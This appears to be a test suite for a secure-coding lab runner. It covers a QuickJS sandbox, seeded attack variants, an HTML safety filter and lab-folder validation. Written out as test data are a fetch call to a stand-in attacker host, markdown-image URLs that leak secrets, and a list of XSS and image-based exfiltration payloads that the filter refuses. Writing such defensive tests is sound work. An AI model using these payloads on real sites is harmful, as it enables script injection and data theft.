/**
 * The lab runner: learner code runs in QuickJS (WebAssembly) with a deadline, a memory cap and
 * no host access; variants are reproducible from a seed; checks judge what the code did.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { LabEngine, RunRequest } from '../../../src/core/labs/engine.ts';
import { failedCheck, prepareRun } from '../../../src/core/labs/grading.ts';
import { originOf, unsafeHtmlReason } from '../../../src/core/labs/html-check.ts';
import { checkLabFolder } from '../../../src/core/labs/load.ts';
import { createQuickJsEngine } from '../../../src/core/labs/quickjs-module.ts';
import { stripTypes } from '../../../src/core/labs/strip-types.ts';
import { fillText, randomFor } from '../../../src/core/labs/template.ts';
import type { LabCase } from '../../../src/schemas/lab.ts';

let engine: LabEngine;
beforeAll(async () => {
	engine = await createQuickJsEngine();
});

const one = (code: string, extra: Partial<RunRequest> = {}) =>
	engine.run({ code, harness: '', entry: 'f', cases: [{ key: 'a', input: { args: [] } }], ...extra });

function resultOf(r: Awaited<ReturnType<typeof one>>): unknown {
	const o = r.outcomes[0];
	if (o?.status !== 'ran') throw new Error(`did not run: ${JSON.stringify(o)}`);
	return o.observation.result;
}

describe('sandbox', () => {
	it('runs a function with the harness arguments and records console output', async () => {
		const r = await engine.run({
			code: 'function f(a, b) { console.log("sum", a + b); return { sum: a + b }; }',
			harness: '',
			entry: 'f',
			cases: [{ key: 'a', input: { args: [2, 3] } }],
		});
		expect(r.outcomes[0]).toEqual({
			key: 'a',
			status: 'ran',
			observation: { result: { sum: 5 }, calls: {}, logs: ['sum 5'] },
		});
	});

	it('awaits async functions and reports what they throw', async () => {
		expect(resultOf(await one('async function f() { await null; return 7; }'))).toBe(7);
		const r = await one('async function f() { throw new TypeError("nope"); }');
		expect(r.outcomes[0]).toMatchObject({ status: 'ran', observation: { thrown: 'TypeError: nope' } });
	});

	it('stops an endless loop at the deadline, skips the rest of the run, and the next run works', async () => {
		const started = Date.now();
		const r = await engine.run({
			code: 'function f() { while (true) {} }',
			harness: '',
			entry: 'f',
			cases: [
				{ key: 'a', input: {} },
				{ key: 'b', input: {} },
			],
			limits: { deadlineMs: 300, memoryBytes: 16 * 1024 * 1024 },
		});
		expect(Date.now() - started).toBeLessThan(2000);
		expect(r.stopped).toBe('deadline');
		expect(r.outcomes.map((o) => (o.status === 'error' ? o.reason : o.status))).toEqual([
			'deadline',
			'skipped',
		]);
		expect(resultOf(await one('function f() { return "fine"; }'))).toBe('fine');
	});

	it('stops a loop hidden in a promise chain too', async () => {
		const r = await one('async function f() { await null; for (;;) {} }', {
			limits: { deadlineMs: 300, memoryBytes: 16 * 1024 * 1024 },
		});
		expect(r.stopped).toBe('deadline');
	});

	it('stops a huge allocation at the memory cap', async () => {
		const r = await one('function f() { return "x".repeat(1 << 26).length; }', {
			limits: { deadlineMs: 5000, memoryBytes: 16 * 1024 * 1024 },
		});
		expect(r.stopped).toBe('memory');
		const r2 = await one('function f() { const a = new Array(5e7).fill(1); return a.length; }', {
			limits: { deadlineMs: 5000, memoryBytes: 16 * 1024 * 1024 },
		});
		expect(r2.stopped).toBe('memory');
		expect(resultOf(await one('function f() { return "x".repeat(1000).length; }'))).toBe(1000);
	});

	it('gives learner code no host access: no fetch, storage, postMessage, DOM, process or require', async () => {
		const probe = `function f() {
			const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'localStorage', 'sessionStorage', 'indexedDB',
				'postMessage', 'self', 'window', 'document', 'navigator', 'importScripts', 'process', 'require',
				'Deno', 'Bun', 'setTimeout', 'Worker', 'caches'];
			const g = Function('return this')();
			const viaConstructor = ({}).constructor.constructor('return typeof fetch + typeof postMessage')();
			return { seen: names.filter((n) => typeof g[n] !== 'undefined' || typeof globalThis[n] !== 'undefined'), viaConstructor };
		}`;
		expect(resultOf(await one(probe))).toEqual({ seen: [], viaConstructor: 'undefinedundefined' });
	});

	it('a call to fetch or localStorage fails inside the sandbox and reaches nothing outside', async () => {
		const r = await one('function f() { fetch("https://attacker.example/?d=1"); }');
		expect(r.outcomes[0]).toMatchObject({
			status: 'ran',
			observation: { thrown: expect.stringContaining('fetch') },
		});
		const r2 = await one('async function f() { return localStorage.getItem("x"); }');
		expect(r2.outcomes[0]).toMatchObject({
			status: 'ran',
			observation: { thrown: expect.stringContaining('localStorage') },
		});
		const r3 = await one('function f() { return import("node:fs").then(() => "loaded", (e) => "refused"); }');
		expect(resultOf(r3)).toBe('refused');
	});

	it('each case starts from a fresh context: globals do not carry over', async () => {
		const r = await engine.run({
			code: 'var count = (globalThis.count || 0); function f() { globalThis.count = ++count; return count; }',
			harness: '',
			entry: 'f',
			cases: [
				{ key: 'a', input: {} },
				{ key: 'b', input: {} },
			],
		});
		expect(r.outcomes.map((o) => (o.status === 'ran' ? o.observation.result : o))).toEqual([1, 1]);
	});

	it('reports a syntax error and a missing entry function in plain words', async () => {
		const bad = await one('function f( { return 1 }');
		expect(bad.outcomes[0]).toMatchObject({
			status: 'error',
			reason: 'code',
			message: expect.stringMatching(/^your code did not load: SyntaxError/),
		});
		const missing = await one('function g() { return 1 }');
		expect(missing.outcomes[0]).toMatchObject({
			status: 'error',
			reason: 'code',
			message: 'your code must declare a function named f',
		});
	});

	it('the harness builds the arguments and records tool calls', async () => {
		const r = await engine.run({
			code: 'function f(tools) { tools.send({ to: "a@b.example" }); return "ok"; }',
			harness: 'function labSetup(input, record) { return [{ send: (x) => record("send", x) }]; }',
			entry: 'f',
			cases: [{ key: 'a', input: {} }],
		});
		expect(r.outcomes[0]).toMatchObject({
			status: 'ran',
			observation: { result: 'ok', calls: { send: [{ to: 'a@b.example' }] } },
		});
	});
});

describe('type stripping', () => {
	it('removes TypeScript types and keeps the code', () => {
		const js = stripTypes(
			'interface A { x: number }\nfunction f(a: A, b?: string): number { return a.x as number; }',
		);
		expect(js).not.toMatch(/interface|: number|as number/);
		expect(js).toMatch(/function f\(a, b\) { return a\.x\s*; }/);
	});
	it('reports code that is not TypeScript', () => {
		expect(() => stripTypes('function f( {')).toThrow(/could not be read as TypeScript/);
	});
});

describe('variants and checks', () => {
	const attack: LabCase = {
		id: 'x',
		title: 't',
		story: 's',
		impact: 'i',
		input: { args: ['![a]({url})'] },
		vars: { url: ['https://{host}/?d={secret}', '//{host}/{secret}', '{upper:https}://{host}/'] },
		expect: [{ at: 'result', excludes: '{host}' }],
	};
	it('draws the same variants from the same seed and different ones from another seed', () => {
		const a = prepareRun({ functional: [], attacks: [attack] }, 'seed-1');
		const b = prepareRun({ functional: [], attacks: [attack] }, 'seed-1');
		const c = prepareRun({ functional: [], attacks: [attack] }, 'seed-2');
		expect(a.map((p) => p.input)).toEqual(b.map((p) => p.input));
		expect(a.map((p) => p.input)).not.toEqual(c.map((p) => p.input));
		expect(a).toHaveLength(3);
		expect(a[0]?.values.url).toMatch(/^https:\/\/[a-z-]+-\d+\.example/);
		// The check is filled with the same host the input got.
		expect(a[0]?.expect[0]).toEqual({ at: 'result', excludes: a[0]?.values.host });
	});
	it('text functions change the spelling, not the meaning', () => {
		const r = randomFor('t');
		expect(fillText('{upper:abc}', {}, r)).toBe('ABC');
		const mixed = fillText('{mixcase:javascript}', {}, r);
		expect(mixed.toLowerCase()).toBe('javascript');
		expect(mixed).not.toBe('javascript');
		expect(fillText('{urlencode:a b/}', {}, r)).toBe('a%20b%2F');
		expect(fillText('{b64:hi}', {}, r)).toBe('aGk=');
		expect(fillText('{htmlent:<}', {}, r)).toBe('&#60;');
	});
	it('checks judge tool calls, text and thrown errors', () => {
		const o = { result: 'hello', calls: { send: [{}, {}] }, logs: [] };
		expect(failedCheck({ tool: 'send', calls: 2 }, o)).toBeUndefined();
		expect(failedCheck({ tool: 'send', calls: { max: 1 } }, o)).toMatch(/called 2 times/);
		expect(failedCheck({ tool: 'other', calls: 0 }, o)).toBeUndefined();
		expect(failedCheck({ at: 'result', includes: 'HELLO', ignoreCase: true }, o)).toBeUndefined();
		expect(failedCheck({ at: 'result', excludes: 'ell' }, o)).toMatch(/contains/);
		expect(failedCheck({ threw: true }, o)).toMatch(/should have refused/);
	});
});

describe('safeHtml', () => {
	const allow = ['https://docs.example.com'];
	it.each([
		'<img src="https://evil.example/x">',
		'<IMG SRC=//evil.example/x>',
		'<img/src=https://evil.example/x>',
		'<img src="https://docs.example.com.evil.example/x">',
		'<img src="https://docs.example.com@evil.example/x">',
		'<img src="https:\\\\evil.example\\x">',
		'<img src="&#104;ttps://evil.example/x">',
		'<img src="x" onerror="alert(1)">',
		'<a href="javascript:alert(1)">x</a>',
		'<a href=" JaVaScRiPt:alert(1)">x</a>',
		'<a href="javascript&colon;alert(1)">x</a>',
		'<script>alert(1)</script>',
		'<div style="background:url(https://evil.example/x)">',
		'<img srcset="https://docs.example.com/a.png 1x, https://evil.example/b.png 2x">',
	])('refuses %s', (html) => {
		expect(unsafeHtmlReason(html, allow)).toBeDefined();
	});
	it.each([
		'<p>plain &lt;img src=https://evil.example/x&gt;</p>',
		'<img src="https://docs.example.com/a.png" alt="a">',
		'<img src="/local.png">',
		'<a href="https://evil.example/">a link needs a click</a>',
		'<a href="mailto:hr@example.com">mail</a>',
		'<!-- <img src="https://evil.example/x"> -->',
	])('accepts %s', (html) => {
		expect(unsafeHtmlReason(html, allow)).toBeUndefined();
	});
	it('reads origins as a browser does', () => {
		expect(originOf('HTTPS://Docs.Example.com/x')).toBe('https://docs.example.com');
		expect(originOf('https:evil.example/x')).toBe('https://evil.example');
		expect(originOf('/\\evil.example/x')).toBe('https://evil.example');
		expect(originOf('img/x.png')).toBe('same');
	});
});

describe('lab folder checks', () => {
	const good = {
		'lab.yaml': `id: demo\nrevision: 1\ntitle: Demo\nsummary: A demo.\nmodule: sc02-output-handling\norder: 1\nlevel: apprentice\nlanguage: javascript\nstory: A story.\ntask: A task.\nentry: f\nhints: [one]\nminutes: 5\n`,
		'functional.yaml':
			'cases:\n  - id: a\n    title: A\n    story: S\n    input: { args: [1] }\n    expect: [{ at: result, equals: 1 }]\n',
		'attacks.yaml':
			'cases:\n  - id: b\n    title: B\n    story: S\n    impact: I\n    input: { args: ["{payload}"] }\n    vars: { payload: ["x"] }\n    expect: [{ at: result, excludes: "{payload}" }]\n',
		'starter.js': 'function f(x) { return x; }',
		'reference.js': 'function f(x) { return typeof x === "number" ? x : ""; }',
	};
	const known = { modules: new Set(['sc02-output-handling']), provisions: new Set(['2.2']) };
	it('accepts a complete lab', () => {
		const r = checkLabFolder('content/labs/demo', good, known);
		expect(r.problems).toEqual([]);
		expect(r.lab?.data.entry).toBe('f');
	});
	it('names file, field and fix for each problem', () => {
		const r = checkLabFolder(
			'content/labs/demo',
			{
				...good,
				'lab.yaml': good['lab.yaml']
					.replace('module: sc02-output-handling', 'module: nope')
					.replace('level: apprentice', 'level: guru'),
				'attacks.yaml': good['attacks.yaml']
					.replace('"{payload}"', '"{missing}"')
					.replace('    impact: I\n', ''),
				'reference.js': undefined,
			},
			known,
		);
		const found = r.problems.map((p) => `${p.file} | ${p.field} | ${p.message}`);
		expect(found).toEqual(
			expect.arrayContaining([
				expect.stringMatching(/lab\.yaml \| level \| unknown lab level "guru"/),
				expect.stringMatching(/attacks\.yaml \| cases\[0\] \| the placeholder \{missing\} is not defined/),
				expect.stringMatching(
					/attacks\.yaml \| cases\[0\]\.impact \| an attack case must say what would leak/,
				),
				expect.stringMatching(/reference\.js \| \(file\) \| the file is missing/),
			]),
		);
		expect(r.lab).toBeUndefined();
		const moduleProblem = checkLabFolder(
			'content/labs/demo',
			{ ...good, 'lab.yaml': good['lab.yaml'].replace('sc02-output-handling', 'nope') },
			known,
		);
		expect(moduleProblem.problems).toEqual([
			expect.objectContaining({
				field: 'module',
				message: 'no module has the id "nope"',
				fix: expect.stringContaining('content/modules/'),
			}),
		]);
	});
	it('refuses a folder whose name differs from the id, and broken YAML', () => {
		expect(checkLabFolder('content/labs/other', good, known).problems[0]).toMatchObject({ field: 'id' });
		expect(
			checkLabFolder('content/labs/demo', { ...good, 'functional.yaml': 'cases: [' }, known).problems[0],
		).toMatchObject({
			file: 'content/labs/demo/functional.yaml',
			message: expect.stringMatching(/^not valid YAML/),
		});
	});
	it('checks an exploit stage: where the payload goes, its placeholders, its regular expressions, a harness', () => {
		const exploit = (input: string, leaked: string) =>
			`exploit:\n  goal: G.\n  slot: The document\n  obeys: Everything.\n  input: ${input}\n  leaked: [${leaked}]\n  show: [{ label: Result, at: result }]\n`;
		const withHarness = { ...good, 'harness.js': 'function labSetup(input) { return [input.text]; }' };
		const ok = checkLabFolder(
			'content/labs/demo',
			{
				...withHarness,
				'lab.yaml':
					good['lab.yaml'] + exploit('{ text: "{payload}" }', '{ at: result, includes: "{secret}" }'),
			},
			known,
		);
		expect(ok.problems).toEqual([]);
		expect(ok.lab?.data.exploit?.payload).toBe('');
		const bad = checkLabFolder(
			'content/labs/demo',
			{
				...good,
				'lab.yaml': good['lab.yaml'] + exploit('{ text: "{doc}" }', "{ at: result, matches: '(' }"),
			},
			known,
		);
		const found = bad.problems.map((p) => `${p.field} | ${p.message}`);
		expect(found).toEqual(
			expect.arrayContaining([
				expect.stringMatching(
					/^exploit\.input \| the exploit input does not say where the learner's text goes/,
				),
				expect.stringMatching(/^exploit \| the placeholder \{doc\} is not defined/),
				expect.stringMatching(/^exploit\.leaked\[0\] \| not a valid regular expression/),
				expect.stringMatching(/^exploit \| an exploit stage needs a harness/),
			]),
		);
		const noChecks = checkLabFolder(
			'content/labs/demo',
			{ ...withHarness, 'lab.yaml': good['lab.yaml'] + exploit('{ text: "{payload}" }', '') },
			known,
		);
		expect(noChecks.problems.map((p) => p.field)).toEqual(['exploit.leaked']);
	});
});
